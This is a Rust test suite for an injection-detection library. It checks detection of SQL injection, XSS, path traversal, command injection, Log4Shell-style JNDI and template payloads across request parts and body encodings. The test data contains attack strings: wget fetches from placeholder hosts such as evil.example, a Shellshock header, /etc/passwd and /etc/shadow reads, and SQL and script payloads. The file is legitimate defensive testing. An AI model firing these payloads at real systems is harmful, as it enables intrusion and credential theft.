//! Behaviour of the public injection API: configuration, exclusions, custom rules, locations
//! reported by `inspect_request`, header selection, and robustness on arbitrary input.

use portcullis_threat::injection::{
    AttackClass, ClassToggles, CompileError, CustomRule, Detector, DetectorConfig, Exclusion,
    FRAGMENT_MAX_CHARS, Location, MAX_FINDINGS, decode,
};
use proptest::prelude::*;

fn det(cfg: &DetectorConfig) -> Detector {
    Detector::compile(cfg).expect("config compiles")
}

fn q(v: &str) -> Location {
    let _ = v;
    Location::QueryParam("q".into())
}

#[test]
fn default_config_detects_each_class() {
    let d = det(&DetectorConfig::default());
    let cases = [
        ("1' or '1'='1", AttackClass::Sqli),
        ("-1 UNION/**/SELECT password FROM users", AttackClass::Sqli),
        ("<script>alert(1)</script>", AttackClass::Xss),
        (
            "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
            AttackClass::Xss,
        ),
        ("../../../../etc/passwd", AttackClass::PathTraversal),
        (
            "..%c0%af..%c0%afwindows/win.ini",
            AttackClass::PathTraversal,
        ),
        ("foo;uname -a", AttackClass::CommandInjection),
        (
            "x|wget http://evil.example/x.sh",
            AttackClass::CommandInjection,
        ),
        ("<!--#echo var=DOCUMENT_NAME -->", AttackClass::Ssi),
        ("*)(uid=*))(|(uid=*", AttackClass::XpathLdap),
        ("${jndi:ldap://evil.example/a}", AttackClass::CodeInjection),
        ("{{7*7}}", AttackClass::CodeInjection),
    ];
    for (v, class) in cases {
        let f = d
            .inspect(&q(v), v)
            .unwrap_or_else(|| panic!("{v:?} not detected"));
        assert_eq!(f.class, class, "{v:?} -> {f}");
        assert_eq!(f.location, "query.q");
        assert!(f.fragment.chars().count() <= FRAGMENT_MAX_CHARS + 1);
    }
}

#[test]
fn benign_values_pass() {
    let d = det(&DetectorConfig::default());
    for v in [
        "O'Brien",
        "Please select the blue or the green option",
        "docs/readme.md",
        "https://example.com/a?b=c&d=e",
        "SKU-000123",
        "alice@example.com",
        "Tom & Jerry <3",
        "5 > 3",
        "information architecture book",
        "aGVsbG8gd29ybGQ=",
    ] {
        assert_eq!(d.inspect(&q(v), v), None, "{v:?}");
    }
}

#[test]
fn compile_errors() {
    let bad = |cfg: DetectorConfig| Detector::compile(&cfg).expect_err("must fail");
    assert_eq!(
        bad(DetectorConfig {
            paranoia: 0,
            ..DetectorConfig::default()
        }),
        CompileError::Paranoia(0)
    );
    let rule = |id: &str, pattern: &str| CustomRule {
        id: id.into(),
        class: AttackClass::Sqli,
        paranoia: 1,
        description: String::new(),
        pattern: pattern.into(),
    };
    assert!(matches!(
        bad(DetectorConfig {
            custom_rules: vec![rule("c1", "(")],
            ..DetectorConfig::default()
        }),
        CompileError::Pattern { .. }
    ));
    assert_eq!(
        bad(DetectorConfig {
            custom_rules: vec![rule("sqli-100", "x")],
            ..DetectorConfig::default()
        }),
        CompileError::DuplicateId("sqli-100".into())
    );
    // Backtracking-only syntax is rejected: the engine is linear-time.
    assert!(matches!(
        bad(DetectorConfig {
            custom_rules: vec![rule("c2", r"(a)\1")],
            ..DetectorConfig::default()
        }),
        CompileError::Pattern { .. }
    ));
}

#[test]
fn custom_rules_and_class_toggles() {
    let cfg = DetectorConfig {
        custom_rules: vec![CustomRule {
            id: "acme-1".into(),
            class: AttackClass::CodeInjection,
            paranoia: 1,
            description: "internal debug hook".into(),
            pattern: r"__debug__\s*=".into(),
        }],
        ..DetectorConfig::default()
    };
    let d = det(&cfg);
    let f = d
        .inspect(&q(""), "x __debug__ = 1")
        .expect("custom rule fires");
    assert_eq!(f.rule_id, "acme-1");

    let no_sqli = det(&DetectorConfig {
        classes: ClassToggles {
            sqli: false,
            ..ClassToggles::default()
        },
        ..DetectorConfig::default()
    });
    assert_eq!(no_sqli.inspect(&q(""), "1' or '1'='1"), None);
    assert!(no_sqli.inspect(&q(""), "<script>").is_some());
}

#[test]
fn exclusions_by_location_and_class() {
    let cfg = DetectorConfig {
        exclusions: vec![
            Exclusion {
                location: "json $.comment".into(),
                classes: vec![AttackClass::Xss],
            },
            Exclusion {
                location: "query.raw*".into(),
                classes: vec![],
            },
        ],
        ..DetectorConfig::default()
    };
    let d = det(&cfg);
    let body =
        br#"{"comment":"<b>hi</b><img src=x onerror=alert(1)>","other":"<script>x</script>"}"#;
    // `text/json` is JSON too (ASP.NET Core parses it so): read field by field, not as one value.
    for ct in ["application/json", "text/json"] {
        let f = d.inspect_request("/c", None, [], Some(ct), Some(body));
        assert_eq!(f.len(), 1, "{ct}: {f:?}");
        assert_eq!(f[0].location, "json $.other", "{ct}");
    }
    // The XSS exclusion does not cover SQLi in the same field.
    let body = br#"{"comment":"1' union select password from users--"}"#;
    let f = d.inspect_request("/c", None, [], Some("application/json"), Some(body));
    assert_eq!(f[0].class, AttackClass::Sqli);
    let f = d.inspect_request("/c", Some("raw_sql=1'%20or%20'1'='1&q=ok"), [], None, None);
    assert!(f.is_empty(), "{f:?}");
}

#[test]
fn request_locations() {
    let d = det(&DetectorConfig::default());
    let f = d.inspect_request(
        "/files/..%2f..%2fetc%2fpasswd",
        Some("a=1&%3Cscript%3E=x"),
        [
            ("Authorization", b"Bearer ' or 1=1--".as_slice()),
            (
                "Cookie",
                b"sid=abc; pref=<script>alert(1)</script>".as_slice(),
            ),
            ("User-Agent", b"() { :;}; /bin/bash -c id".as_slice()),
            ("X-Custom", b";wget http://e.example/x".as_slice()),
        ],
        Some("application/xml"),
        Some(b"<a><b attr=\"../../etc/shadow\">ok</b><c>1' UNION SELECT 1--</c></a>"),
    );
    let locs: Vec<&str> = f.iter().map(|f| f.location.as_str()).collect();
    assert_eq!(
        locs,
        [
            "path",
            "query-name.<script>",
            "cookie.pref",
            "header.user-agent",
            "header.x-custom",
            "xml /a/b/@attr",
            "xml /a/c",
        ],
        "{f:#?}"
    );
    // Paranoia 1 leaves non-standard headers alone.
    let d1 = det(&DetectorConfig {
        paranoia: 1,
        ..DetectorConfig::default()
    });
    let f = d1.inspect_request(
        "/",
        None,
        [("X-Custom", b";wget http://e.example/x".as_slice())],
        None,
        None,
    );
    assert!(f.is_empty());
}

#[test]
fn bodies_by_content_type() {
    let d = det(&DetectorConfig::default());
    let form = d.inspect_request(
        "/",
        None,
        [],
        Some("application/x-www-form-urlencoded"),
        Some(b"name=O%27Brien&q=1%27+or+%271%27%3D%271"),
    );
    assert_eq!(form.len(), 1);
    assert_eq!(form[0].location, "form.q");
    // No content type: sniffed as JSON.
    let json = d.inspect_request(
        "/",
        None,
        [],
        None,
        Some(br#"{"a":{"b":["x","<svg onload=alert(1)>"]}}"#),
    );
    assert_eq!(json[0].location, "json $.a.b[1]");
    // Invalid JSON falls back to one raw value.
    let raw = d.inspect_request(
        "/",
        None,
        [],
        Some("application/json"),
        Some(b"{\"a\": <script>alert(1)</script>"),
    );
    assert_eq!(raw[0].location, "body");
    let text = d.inspect_request(
        "/",
        None,
        [],
        Some("text/plain"),
        Some(b"hello; cat /etc/passwd"),
    );
    assert_eq!(text[0].location, "body");
}

#[test]
fn findings_are_capped() {
    let d = det(&DetectorConfig::default());
    let query: String = (0..100).map(|i| format!("p{i}=%3Cscript%3E&")).collect();
    let f = d.inspect_request("/", Some(&query), [], None, None);
    assert_eq!(f.len(), MAX_FINDINGS);
}

#[test]
fn config_deserialises() {
    let cfg: DetectorConfig = serde_json::from_str(
        r#"{"paranoia":3,"classes":{"ssi":false},"exclusions":[{"location":"json $.html","classes":["xss"]}],
            "custom_rules":[{"id":"c1","class":"sqli","pattern":"foo"}]}"#,
    )
    .expect("valid config");
    assert_eq!(cfg.paranoia, 3);
    assert!(!cfg.classes.ssi && cfg.classes.sqli);
    assert_eq!(cfg.custom_rules[0].paranoia, 1);
    assert!(Detector::compile(&cfg).is_ok());
    assert!(serde_json::from_str::<DetectorConfig>(r#"{"paranoya":3}"#).is_err());
}

static STRICT: std::sync::LazyLock<Detector> = std::sync::LazyLock::new(|| {
    det(&DetectorConfig {
        paranoia: 4,
        ..DetectorConfig::default()
    })
});

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn never_panics_and_stays_bounded(s in "\\PC{0,300}", raw in proptest::collection::vec(any::<u8>(), 0..300)) {
        let d = &*STRICT;
        let v = decode::views(&s, 128);
        prop_assert!(v.decoded.len() <= 256);
        if let Some(f) = d.inspect(&q(""), &s) {
            prop_assert!(f.fragment.chars().count() <= FRAGMENT_MAX_CHARS + 1);
        }
        let text = String::from_utf8_lossy(&raw);
        for ct in [None, Some("application/json"), Some("application/xml"), Some("text/plain")] {
            let f = d.inspect_request(&text, Some(&text), [("Cookie", raw.as_slice())], ct, Some(&raw));
            prop_assert!(f.len() <= MAX_FINDINGS);
        }
    }
}

/// A body read from the `JsonDoc` tape gives the same findings as lexing it again, and a tape
/// of other bytes is ignored.
#[test]
fn parsed_json_body_gives_the_same_findings() {
    use portcullis_threat::json::{JsonDoc, JsonLimits};
    let det = Detector::compile(&DetectorConfig::default()).unwrap();
    let body = br#"{"q":"1' OR '1'='1","n\u0061me":["ok","<script>alert(1)</script>"],"x":{"../../etc/passwd":1}}"#;
    let doc = JsonDoc::parse(body, &JsonLimits::default()).unwrap();
    let view = doc.view(body).unwrap();
    let plain = det.inspect_request("/", None, [], Some("application/json"), Some(body));
    let shared =
        det.inspect_request_with_doc("/", None, [], Some("application/json"), Some(body), view);
    assert!(plain.len() >= 3, "{plain:?}");
    assert_eq!(shared, plain);
    // The same bytes elsewhere in memory are another body: the tape is not used for them,
    // and the answer is still the same.
    let copy = body.to_vec();
    let other =
        det.inspect_request_with_doc("/", None, [], Some("application/json"), Some(&copy), view);
    assert_eq!(other, plain);
    // With exclusions every inspected value needs its location (the tape is walked with paths).
    let excluding = Detector::compile(&DetectorConfig {
        exclusions: vec![Exclusion {
            location: "json $.q".into(),
            classes: vec![AttackClass::Sqli],
        }],
        ..DetectorConfig::default()
    })
    .unwrap();
    let plain = excluding.inspect_request("/", None, [], Some("application/json"), Some(body));
    let shared = excluding.inspect_request_with_doc(
        "/",
        None,
        [],
        Some("application/json"),
        Some(body),
        view,
    );
    assert!(plain.iter().all(|f| f.location != "json $.q"), "{plain:?}");
    assert!(plain.len() >= 2, "{plain:?}");
    assert_eq!(shared, plain);
}

/// The encodings a back end may decode a body from: UTF-16 and UTF-32, little and big endian,
/// with and without a byte order mark.
fn wide_encodings(text: &str) -> Vec<(&'static str, Vec<u8>)> {
    let le16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be16: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let bom16 = [0xFF, 0xFE]
        .into_iter()
        .chain(le16.iter().copied())
        .collect();
    let le32 = text
        .chars()
        .flat_map(|c| u32::from(c).to_le_bytes())
        .collect();
    let be32 = text
        .chars()
        .flat_map(|c| u32::from(c).to_be_bytes())
        .collect();
    vec![
        ("le16", le16),
        ("be16", be16),
        ("bom16", bom16),
        ("le32", le32),
        ("be32", be32),
    ]
}

/// Bodies in UTF-16 and UTF-32: back ends such as Jackson and XML readers decode them, so the
/// detector reads the text they decode to, with the body's structure (JSON fields, exclusions)
/// and with characters beyond ASCII (full-width forms that NFKC folds into `<script>`).
#[test]
fn utf16_and_utf32_bodies_are_inspected_as_their_text() {
    let d = det(&DetectorConfig::default());
    let cases: [(&str, &str); 3] = [
        (
            "application/json",
            r#"{"q":"1' union select password from users--"}"#,
        ),
        (
            "application/xml",
            "<a><c>1' UNION SELECT password FROM users--</c></a>",
        ),
        (
            "text/plain",
            "\u{FF1C}script\u{FF1E}alert(document.cookie)\u{FF1C}/script\u{FF1E}",
        ),
    ];
    for (ct, text) in cases {
        assert!(
            !d.inspect_request("/c", None, [], Some(ct), Some(text.as_bytes()))
                .is_empty()
        );
        for (name, body) in wide_encodings(text) {
            let f = d.inspect_request("/c", None, [], Some(ct), Some(&body));
            assert!(!f.is_empty(), "{ct} {name}: not detected");
        }
    }
    // A field excluded from XSS stays excluded when the JSON arrives in UTF-16 (read as raw
    // text, the whole body would be inspected and refused).
    let d = det(&DetectorConfig {
        exclusions: vec![Exclusion {
            location: "json $.comment".into(),
            classes: vec![AttackClass::Xss],
        }],
        ..DetectorConfig::default()
    });
    let text = r#"{"comment":"<b>hi</b><img src=x onerror=alert(1)>"}"#;
    for (name, body) in wide_encodings(text) {
        let f = d.inspect_request("/c", None, [], Some("application/json"), Some(&body));
        assert!(f.is_empty(), "{name}: {f:?}");
    }
}
